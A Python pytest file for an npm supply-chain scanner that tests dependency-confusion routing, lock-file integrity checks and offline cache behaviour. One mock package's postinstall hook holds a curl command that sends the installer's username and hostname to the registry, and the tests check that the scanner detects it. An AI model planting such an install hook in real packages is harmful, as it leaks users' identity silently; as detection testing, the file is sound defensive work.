"""What of a project reaches which registry, and what happens without one."""

from __future__ import annotations

import json
import os
from collections.abc import Callable, Iterator
from pathlib import Path

import pytest

from tests.support.hunter import npm_project, scan_json
from tests.support.npm_server import NpmServer, Packages
from tests.support.requires import needs_btf, needs_program, needs_runc

Serve = Callable[..., NpmServer]


@pytest.fixture
def serve() -> Iterator[Serve]:
    needs_btf()
    needs_runc()
    needs_program("npm")
    made: list[NpmServer] = []

    def start(**hosts: Packages) -> NpmServer:
        made.append(NpmServer(**hosts))
        return made[-1]

    yield start
    for server in made:
        server.close()


def _environment(home: Path, **more: str) -> dict[str, str]:
    kept = {k: v for k, v in os.environ.items() if not k.lower().startswith("npm_config_")}
    return {**kept, "HOME": str(home), **more}


def _purls(report: dict[str, object]) -> set[str]:
    return {package["purl"] for package in report["packages"]}  # type: ignore[attr-defined]


def test_a_private_name_is_never_asked_for_in_public_and_other_names_are_a_channel(
    serve: Serve, tmp_path: Path
) -> None:
    leak = 'curl -s "$npm_config_registry/u-$(id -un)-of-$(hostname)"; true'
    server = serve(
        public={"@corp/lib": {}, "corp-tools": {"postinstall": leak}, "left": {}},
        private={"@corp/lib": {}},
    )
    public, private = server.names["public"], server.names["private"]
    server.versions[public, "@corp/lib"] = "99.0.0"  # dependency confusion: the public one is newer
    home = server.home(
        tmp_path / "home", f"@corp:registry=http://{private}/\n//{private}/:_authToken=hosts-own\n"
    )
    project = npm_project(
        tmp_path / "app", "app", dependencies={"@corp/lib": ">=1", "corp-tools": "1", "left": "*"}
    )
    report = scan_json(project, env=_environment(home), codes=(0, 1))
    assert _purls(report) == {"pkg:npm/%40corp/lib@1.0.0", "pkg:npm/corp-tools@1.0.0", "pkg:npm/left@1.0.0"}
    assert not any("corp/lib" in path for host, path, _ in server.asked if host == public)
    assert {auth for host, _, auth in server.asked if host == private} == {"Bearer hosts-own"}
    assert {auth for host, _, auth in server.asked if host == public} == {None}
    (channel,) = [f for f in report["findings"] if f["kind"] == "registry_channel"]
    assert "u-dev-of-devbox" in str(channel) and channel["blame"]["package"] == "pkg:npm/corp-tools@1.0.0"
    assert not any("u-dev" in path for _, path, _ in server.asked)
    assert "hosts-own" not in json.dumps(report)


def test_the_lock_files_digest_counts(serve: Serve, tmp_path: Path) -> None:
    server = serve(public={"left": {}})
    public = server.names["public"]
    project = npm_project(tmp_path / "app", "app", dependencies={"left": "1.0.0"})
    other = "sha512-" + "A" * 86 + "=="
    entry = {"version": "1.0.0", "resolved": f"http://{public}/left/-/left-1.0.0.tgz", "integrity": other}
    lock = {
        "name": "app", "version": "1.0.0", "lockfileVersion": 3,
        "packages": {"": {"name": "app", "version": "1.0.0", "dependencies": {"left": "1.0.0"}},
                     "node_modules/left": entry},
    }  # fmt: skip
    project.joinpath("package-lock.json").write_text(json.dumps(lock))
    report = scan_json(project, env=_environment(server.home(tmp_path / "home")), codes=(1, 4))
    assert any(f["kind"] == "integrity_mismatch" for f in report["findings"])
    assert not report["packages"] and report["verdict"] != "no_findings"


def test_offline_the_cache_alone_answers(serve: Serve, tmp_path: Path) -> None:
    server = serve(public={"left": {}, "right": {}})
    home = server.home(tmp_path / "home")
    project = npm_project(tmp_path / "app", "app", dependencies={"left": "1.0.0"})
    online = scan_json(project, env=_environment(home))
    asked = len(server.asked)
    again = scan_json(project, env=_environment(home, PACKAGE_HUNTER_OFFLINE="1"))
    assert _purls(again) == _purls(online) == {"pkg:npm/left@1.0.0"}
    assert again["coverage"]["reasons"] == []
    npm_project(tmp_path / "app", "app", dependencies={"left": "1.0.0", "right": "1.0.0"})
    lacking = scan_json(project, env=_environment(home, PACKAGE_HUNTER_OFFLINE="1"), codes=(4,))
    assert "offline" in "\n".join(lacking["coverage"]["reasons"])
    assert len(server.asked) == asked
